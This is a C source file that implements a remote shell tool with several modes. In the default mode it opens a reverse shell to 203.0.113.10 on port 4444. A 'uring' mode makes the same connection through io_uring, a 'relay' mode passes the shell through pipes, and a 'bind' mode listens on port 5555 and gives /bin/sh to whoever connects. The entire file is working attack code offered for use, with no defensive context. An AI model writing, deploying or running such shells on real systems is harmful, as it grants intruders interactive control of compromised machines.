/* A shell for somebody far away: over the socket itself, over pipes, by io_uring, or listening. */
#include "uring.h"
#include <arpa/inet.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/wait.h>

static struct sockaddr_in far(const char *host, int port)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(port) };
    inet_pton(AF_INET, host, &address.sin_addr);
    return address;
}

static int shell_on(int in, int out)
{
    dup2(in, 0);
    dup2(out, 1);
    dup2(out, 2);
    execl("/bin/sh", "sh", "-i", (char *)0);
    return 1;
}

static int connected(int by_uring)
{
    struct sockaddr_in address = far("203.0.113.10", 4444);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct ring ring;
    if (!by_uring)
        return connect(fd, (void *)&address, sizeof address) ? -1 : fd;
    if (ring_open(&ring) || ring_connect(&ring, fd, &address, sizeof address) < 0)
        return -1;
    return fd;
}

static int relay(int remote)
{
    int to[2], from[2];
    char buffer[512];
    ssize_t got;
    if (pipe(to) || pipe(from))
        return 1;
    if (!fork()) {
        close(remote), close(to[1]), close(from[0]);
        return shell_on(to[0], from[1]);
    }
    close(to[0]), close(from[1]);
    if (!fork()) {
        while ((got = read(from[0], buffer, sizeof buffer)) > 0)
            if (write(remote, buffer, got) < 0)
                break;
        return 0;
    }
    while ((got = read(remote, buffer, sizeof buffer)) > 0)
        if (write(to[1], buffer, got) < 0)
            break;
    close(to[1]);
    while (wait(0) > 0)
        ;
    return 0;
}

static int listening(void)
{
    struct sockaddr_in address = far("0.0.0.0", 5555);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(fd, (void *)&address, sizeof address) || listen(fd, 1))
        return 1;
    int caller = accept(fd, 0, 0);
    return shell_on(caller, caller);
}

int main(int count, char **words)
{
    const char *way = count < 2 ? "" : words[1];
    if (!strcmp(way, "bind"))
        return listening();
    int fd = connected(!strcmp(way, "uring"));
    if (fd < 0)
        return perror("connect"), 1;
    return strcmp(way, "relay") ? shell_on(fd, fd) : relay(fd);
}
